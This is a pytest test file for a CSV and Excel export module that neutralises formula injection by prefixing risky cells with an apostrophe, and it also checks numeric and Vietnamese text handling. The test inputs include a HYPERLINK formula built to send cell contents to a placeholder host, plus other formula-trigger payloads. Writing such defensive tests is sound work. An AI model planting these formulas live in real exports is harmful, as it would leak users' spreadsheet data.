"""Files out (core.files_out): a cell of user text never opens as a live formula, in CSV or in
Excel; numbers stay numbers; Vietnamese survives Excel's CSV reading (UTF-8 with a BOM)."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from core import files_out

HYPERLINK = '=HYPERLINK("http://host/?"&A2,"x")'
VIETNAMESE = "Tăng doanh thu ở Đà Nẵng"


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+1+2",
        "-1+2",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "=",
        "'=already quoted",  # reading back removes one apostrophe and gets this text again
    ],
)
def test_text_a_spreadsheet_would_run_gets_one_leading_apostrophe(text):
    assert files_out.safe_cell(text) == "'" + text
    assert files_out.NEUTRALISED.sub("", files_out.safe_cell(text)) == text


@pytest.mark.parametrize(
    "value",
    ["plain", "", " =1+1 (leading space)", "Sales = growth", "'quoted", VIETNAMESE, "1-2"],
)
def test_other_text_is_unchanged(value):
    assert files_out.safe_cell(value) == value


@pytest.mark.parametrize(
    "value", [-5, -1.5, 0, 7, np.int64(-3), np.float64(-0.25), True, None, date(2026, 1, 2)]
)
def test_values_that_are_not_text_stay_values(value):
    assert files_out.safe_cell(value) is value


def test_a_csv_reads_back_neutralised_with_numbers_as_numbers_and_vietnamese_intact():
    frame = pd.DataFrame(
        {
            "title": [HYPERLINK, VIETNAMESE, "-1+2"],
            "owner": ["@SUM(1+1)", "Nguyễn Thị Mai", None],
            "progress": [-0.5, np.nan, 0.75],
            "krs": [1, 2, 3],
            "at": [datetime(2026, 11, 26, 20, 31, 16), None, datetime(2026, 1, 2)],
        }
    )
    data = files_out.csv_bytes(frame)

    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert back["title"].tolist() == ["'" + HYPERLINK, VIETNAMESE, "'-1+2"]
    assert back["owner"].tolist() == ["'@SUM(1+1)", "Nguyễn Thị Mai", ""]
    assert back["krs"].tolist() == [1, 2, 3]
    assert data.decode("utf-8-sig").splitlines()[1].split(",")[-3:] == [
        "-0.5",  # a negative number is written as a number
        "1",
        "2026-11-26 20:31:16",
    ]
    assert ",," in data.decode("utf-8-sig").splitlines()[2]  # NaN and None are empty cells


def test_no_csv_cell_starts_with_a_formula_character():
    rows = [[text] for text in ("=1", "+1", "-1", "@1", "\t1", "\r1", "\n1", "plain")]
    data = files_out.csv_bytes(["=header"], rows)
    cells = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
    assert list(cells.columns) == ["'=header"]
    assert all(not cell.startswith(tuple(files_out.FORMULA_TRIGGERS)) for cell in cells.iloc[:, 0])


def test_a_csv_zip_holds_one_neutralised_csv_per_sheet():
    data = files_out.csv_zip(
        [("objectives", ["title"], [(HYPERLINK,)]), ("people", ["name"], [("@SUM(1+1)",)])]
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.namelist() == ["objectives.csv", "people.csv"]
    objectives = archive.read("objectives.csv")
    assert objectives.startswith(b"\xef\xbb\xbf")
    assert pd.read_csv(io.BytesIO(objectives), encoding="utf-8-sig")["title"][0] == "'" + HYPERLINK


def test_an_excel_workbook_has_no_formula_cells_and_keeps_the_text():
    texts = [HYPERLINK, "@SUM(1+1)", "+1", "-1+2", "\t=1", "plain", VIETNAMESE, "\x01=2 bell"]
    data = files_out.xlsx_bytes(
        [("sheet", ["=title", "number", "when"], [(t, -5, date(2026, 1, 2)) for t in texts])]
    )

    book = load_workbook(io.BytesIO(data))
    cells = [cell for row in book["sheet"].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    titles = [row[0] for row in book["sheet"].iter_rows(min_row=2)]
    # Text comes back exactly (control characters a workbook cannot hold are dropped) ...
    assert [cell.value for cell in titles] == [*texts[:-1], "=2 bell"]
    # ... and what a spreadsheet would run carries Excel's own leading apostrophe.
    assert [cell.quotePrefix for cell in titles] == [True] * 5 + [False, False, True]
    assert book["sheet"]["A1"].quotePrefix and book["sheet"]["A1"].data_type == "s"
    assert [row[1].value for row in book["sheet"].iter_rows(min_row=2)] == [-5] * len(texts)


def test_a_long_table_continues_on_a_second_sheet(monkeypatch):
    monkeypatch.setattr(files_out, "MAX_SHEET_ROWS", 2)
    data = files_out.xlsx_bytes([("log", ["n"], [(1,), (2,), (3,)])])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["log", "log~2"]
    assert [row[0] for row in book["log~2"].values] == ["n", 3]
